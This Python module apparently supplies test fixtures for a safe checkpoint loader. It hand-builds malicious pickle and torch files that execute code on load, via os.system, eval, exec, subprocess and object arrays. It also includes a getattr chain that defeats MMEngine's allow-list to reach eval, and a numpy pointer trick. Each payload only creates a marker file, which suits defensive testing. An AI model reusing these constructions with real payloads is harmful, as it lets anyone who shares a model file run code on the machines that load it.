"""Files that run something when Python unpickles them."""

import builtins
import os
import pickle
import runpy
import struct
import subprocess
from collections.abc import Callable
from io import BytesIO

import numpy as np
import torch


class Call:
    """An object that pickles as a call of ``function(*args)``."""

    def __init__(self, function: Callable, *args: object) -> None:
        self.call = function, args

    def __reduce__(self) -> tuple:
        return self.call


def touch(marker: object) -> Call:
    return Call(os.system, f'touch {marker}')


def saved(value: object, **options: object) -> bytes:
    """Return the bytes that ``torch.save`` writes."""
    file = BytesIO()
    torch.save(value, file, **options)
    return file.getvalue()


def name(path: str) -> bytes:
    module, _, attribute = path.rpartition('.')
    return f'c{module}\n{attribute}\n'.encode()


def text(value: str) -> bytes:
    return b'X' + struct.pack('<I', len(value.encode())) + value.encode()


def call(function: bytes, *args: bytes) -> bytes:
    return function + b'(' + b''.join(args) + b'tR'


def torch_file(body: bytes) -> bytes:
    """A file of torch's older format with the pickle ``body``."""
    info = {'protocol_version': 1001, 'little_endian': True, 'type_sizes': {}}
    head = (torch.serialization.MAGIC_NUMBER, 1001, info)
    return b''.join(
        [*(pickle.dumps(part, 2) for part in head), b'\x80\x02', body, b'.', pickle.dumps([], 2)]
    )


def getattr_chain(code: str) -> bytes:
    """A way from a history's ``getattr`` to ``eval``, which MMEngine's own list of names allows."""
    history = name('mmengine.logging.history_buffer.HistoryBuffer')

    def attribute(owner: bytes, key: str) -> bytes:
        return call(name('builtins.getattr'), owner, text(key))

    def result(function: bytes, kind: bytes, *args: bytes) -> bytes:
        rebuild = name('torch._tensor._rebuild_from_type_v2')
        return call(rebuild, function, kind, b'(' + b''.join(args) + b't', b'}')

    scope = attribute(attribute(history, '__init__'), '__globals__')
    a_dict = attribute(scope, '__class__')
    known = result(attribute(scope, 'get'), a_dict, text('__builtins__'))
    look_up = attribute(known, 'get')
    evaluate = result(look_up, attribute(look_up, '__class__'), text('eval'))
    a_float = result(look_up, attribute(a_dict, '__class__'), text('float'))
    return torch_file(result(evaluate, a_float, text(f'{code} or 0.0')))


def pointer_array() -> bytes:
    """Eight bytes declared to be an object pointer, by a dtype with its flags taken away."""
    minus_one = b'J' + struct.pack('<i', -1)
    plain = call(name('numpy.dtype'), text('O8'), b'\x89', b'\x88')
    dtype = plain + b'(K\x03' + text('|') + b'NNN' + minus_one + minus_one + b'K\x00tb'
    raw = call(name('_codecs.encode'), text('AAAAAAAA'), text('latin1'))
    array = call(
        name('numpy._core.multiarray._reconstruct'), name('numpy.ndarray'), b'(K\x00t', text('b')
    )
    return torch_file(array + b'(K\x01(K\x01t' + dtype + b'\x89' + raw + b'tb')


def with_state(path: str, state: object) -> bytes:
    """A pickle that looks up a name and sets its state."""
    return b'\x80\x02' + name(path) + pickle.dumps(state, 2)[2:-1] + b'b.'


# Each makes the file ``m`` when it is unpickled.
TORCH_FILES: dict[str, Callable[[str], bytes]] = {
    'os.system': lambda m: saved({'state_dict': {}, 'meta': touch(m)}),
    'old format': lambda m: saved(touch(m), _use_new_zipfile_serialization=False),
    'exec': lambda m: saved(Call(builtins.exec, f'open({m!r}, "w")')),
    'eval': lambda m: saved(Call(builtins.eval, f'open({m!r}, "w")')),
    'open': lambda m: saved(Call(builtins.open, m, 'w')),
    'subprocess': lambda m: saved(Call(subprocess.Popen, ['touch', m])),
    'runpy': lambda m: saved(Call(runpy._run_code, f'open({m!r}, "w")', {})),
    'torch.load': lambda m: saved(Call(torch.storage._load_from_bytes, saved(touch(m)))),
    'getattr': lambda m: torch_file(
        call(name('builtins.getattr'), name('torch.Size'), text('__new__'))
    ),
    'getattr chain': lambda m: getattr_chain(f'open({m!r}, "w").close()'),
    'array of objects': lambda m: saved(np.array([touch(m)], dtype=object), pickle_protocol=2),
    'array of pointers': lambda m: pointer_array(),
}
PICKLES: dict[str, Callable[[str], object]] = {
    'os.system': touch,
    'eval': lambda m: {'model': Call(builtins.eval, f'open({m!r}, "w")')},
    'open': lambda m: {'model': {'w': np.ones(1)}, 'other': [Call(builtins.open, m, 'w')]},
    'array of objects': lambda m: {'model': {'w': np.array([touch(m)], dtype=object)}},
    'torch.load': lambda m: {'model': {'w': Call(torch.storage._load_from_bytes, saved(touch(m)))}},
    'module': lambda m: {'model': torch.nn.Linear(1, 1)},
}


def pickled(kind: str, protocol: int, marker: str) -> bytes:
    return pickle.dumps(PICKLES[kind](marker), protocol)
